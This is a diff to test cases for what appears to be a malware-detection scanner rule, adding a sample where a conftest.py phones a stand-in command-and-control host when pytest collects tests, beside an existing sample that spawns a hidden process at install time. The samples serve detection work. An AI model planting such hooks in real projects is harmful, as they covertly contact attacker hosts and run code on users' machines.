@@ -62,5 +62,11 @@ ruleTest(rule, {
       code: `from os import system as _ssystem\nfrom sys import executable as _eexecutable\n_ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")\n`,
       findings: [{ line: 3, severity: 'critical', message: /hidden or detached process at install time/ }],
     },
+    {
+      name: 'conftest.py phoning home',
+      file: 'tests/conftest.py',
+      code: `import urllib.request\nurllib.request.urlopen("https://c2.example-bad.net/p?x=1")\n`,
+      findings: [{ line: 2, message: /when pytest collects the tests/ }],
+    },
   ],
 });
